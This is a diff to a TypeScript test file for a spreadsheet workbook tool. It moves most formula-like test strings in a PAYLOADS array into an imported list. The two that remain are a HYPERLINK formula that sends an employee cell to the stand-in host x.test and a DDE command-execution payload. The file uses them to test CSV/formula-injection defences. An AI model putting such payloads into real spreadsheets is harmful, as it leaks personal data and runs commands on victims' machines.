@@ -19,6 +19,7 @@ import { cellAddress } from "../../src/workbook/address";
 import type { GapProposal } from "../../src/domain/proposals";
 import { bookState, tableRows } from "../helpers/book";
 import { SPEC_BY_KEY } from "../../src/workbook/specs";
+import { TEXT_INPUTS } from "../../src/selftest/checks";
 
 const OPTS = { lang: "nl" as const, year: 2026 };
 const SMALL = () => exampleData({ employees: 6, gapRows: 12, year: 2026 });
@@ -51,20 +52,8 @@ const cell = (fake: FakeExcel, sheet: string, row: number, col: number) =>
 /** Formula-like and type-changing text a user may type; every path must keep it exactly as text. */
 const PAYLOADS = [
   '=HYPERLINK("http://x.test/?d="&Medewerkers!B4,"klik")',
-  "+1+1",
-  "@SUM(A1)",
   "=cmd|' /C calc'!A0",
-  "-2",
-  "0012",
-  "TRUE",
-  "2026-01-01",
-  "(123)",
-  "#N/A",
-  "€5",
-  "1/2",
-  "3e5",
-  "12:30",
-  "'quoted",
+  ...TEXT_INPUTS,
 ];
 
 // ---- weights --------------------------------------------------------------------------------
